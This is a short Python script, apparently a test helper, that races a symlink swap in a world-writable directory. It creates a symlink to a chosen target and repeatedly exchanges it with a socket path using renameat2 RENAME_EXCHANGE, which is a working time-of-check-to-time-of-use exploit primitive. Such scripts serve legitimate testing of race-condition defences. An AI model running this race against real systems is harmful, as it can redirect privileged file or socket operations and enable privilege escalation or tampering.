"""The attacker of a directory others can write to (0777, no sticky bit): makes LINK a symbolic link to TARGET,
then swaps the names SOCKET and LINK atomically (renameat2 RENAME_EXCHANGE) as fast as it can, until STOP exists.
Prints READY once racing, and the number of swaps at the end."""
import ctypes
import os
import sys

socket_path, link_path, target, stop = sys.argv[1:5]
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
RENAME_EXCHANGE = 2
os.symlink(target, link_path)
print('READY', flush=True)
swaps = 0
while True:
    for _ in range(500):
        if libc.renameat2(AT_FDCWD, socket_path.encode(), AT_FDCWD, link_path.encode(), RENAME_EXCHANGE) == 0:
            swaps += 1
    if os.path.exists(stop):
        break
print(swaps, flush=True)
